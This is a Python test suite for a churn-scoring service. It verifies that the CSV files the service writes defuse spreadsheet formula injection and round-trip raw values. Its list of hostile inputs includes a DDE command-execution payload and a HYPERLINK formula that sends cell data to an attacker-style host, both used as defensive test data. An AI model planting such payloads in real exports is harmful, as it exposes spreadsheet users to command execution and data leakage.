"""What the platform writes as CSV is safe to open in a spreadsheet and reads back as it was given:
no cell starts a formula (OWASP's CSV-injection advice), a carriage return never splits a record, and
removing one leading ``'`` from a cell that starts with one gives the raw value back."""

from __future__ import annotations

import csv
import io

import hypothesis.strategies as st
import numpy as np
import pytest
from hypothesis import example, given, settings

from churnguard.domain.batch import BatchOptions, BatchScorer, ChunkResult
from tests.conftest import synth_frame

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-123",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # inert with its space; live once a reader trims it
    "'already quoted",
    "a\rb",
    "line\nbreak",
    'say "hi", twice',
    "plain-7590",
]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _raw(cell: str) -> str:
    """The documented way back to a raw value."""
    return cell[1:] if cell.startswith("'") else cell


def _assert_safe(cell: str) -> None:
    assert not cell.startswith(TRIGGERS), cell
    assert not (cell[:1].isspace() and cell.lstrip().startswith(TRIGGERS)), cell


def _result(ids: list[str]) -> ChunkResult:
    n = len(ids)
    p = np.linspace(0.05, 0.95, n) if n else np.empty(0)
    risk = np.array(["low", "medium", "high"], dtype=object)[np.arange(n) % 3]
    return ChunkResult("v1", n, np.array(ids, dtype=object), p, p >= 0.5, risk, np.full(n, "", dtype=object))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(min_size=1) | st.sampled_from(HOSTILE), min_size=1, max_size=30))
def test_scores_csv_cells_are_defused_and_round_trip(ids):
    rows = _rows(_result(ids).scores_csv())
    assert len(rows) == len(ids) + 1  # a CR or LF inside an id never splits a record
    for row, original in zip(rows[1:], ids, strict=True):
        for cell in row:
            _assert_safe(cell)
        assert _raw(row[0]) == original


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text() | st.sampled_from(HOSTILE), min_size=1, max_size=6))
def test_errors_csv_cells_are_defused_and_round_trip(values):
    names = [f"col{i}" if i % 2 else f"=C{i}" for i in range(len(values))]  # hostile column names too
    rejected = [{"row": 1, "reason": "-bad", "values": dict(zip(names, values, strict=True))}]
    result = ChunkResult("v1", 1, np.empty(0, dtype=object), np.empty(0), np.empty(0, bool), np.empty(0), np.empty(0))
    result.rejected_rows = rejected
    rows = _rows(result.errors_csv())
    assert len(rows) == 2
    for cell in rows[0] + rows[1]:
        _assert_safe(cell)
    assert [_raw(c) for c in rows[0]] == ["row", "reason", *names]
    assert [_raw(c) for c in rows[1]] == ["1", "-bad", *values]


@pytest.fixture(scope="module")
def scorer(trained):
    from churnguard.domain.predictor import Predictor

    s = BatchScorer(Predictor(trained[0]), num_threads=1)
    yield s
    s.close()


def test_hostile_ids_and_values_through_the_scorer(scorer):
    frame = synth_frame(len(HOSTILE) + 2, seed=9).drop(columns=["Churn"])
    frame["customerID"] = [*HOSTILE, "  =TRIMMED()  ", "ok"]
    frame.loc[0, "tenure"] = "=1+2"  # a rejected row keeps its original (hostile) value, defused
    buf = io.StringIO()
    frame.to_csv(buf, index=False, quoting=csv.QUOTE_ALL)  # pandas leaves a bare CR unquoted otherwise
    result = scorer.score_csv(buf.getvalue().encode(), BatchOptions(reasons="all"))
    scores, errors = _rows(result.scores_csv()), _rows(result.errors_csv())
    for cell in [c for r in scores + errors for c in r]:
        _assert_safe(cell)
    # ids are trimmed before output: the trimmed id is defused, not turned live
    assert {_raw(r[0]) for r in scores[1:]} == {i.strip() for i in frame["customerID"][1:]}
    assert "'=TRIMMED()" in {r[0] for r in scores[1:]}
    header, row = errors
    assert _raw(row[header.index("tenure")]) == "=1+2" and row[header.index("tenure")] == "'=1+2"
    assert _raw(row[header.index("customerID")]) == HOSTILE[0]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(max_codepoint=127)) | st.sampled_from(HOSTILE), min_size=1, max_size=20))
@example(["7590-VHVEG", "\x1c=1+1"])
@example(["-123", "-7", "ok"])
def test_the_fast_path_writes_what_csv_cell_writes(ids):
    """The scores file formats a block of ids with quick scans first (the hot path); whatever it
    skips or shortcuts must come out as the one rule, csv_cell, writes each cell. ASCII only, where
    the shortcuts apply (e.g. "\\x1c=1": whitespace to str.isspace, hiding a formula)."""
    from churnguard.domain.batch.scorer import _csv_field, csv_cell

    assert _csv_field(np.array(ids, dtype=object)).tolist() == [csv_cell(c) for c in ids]
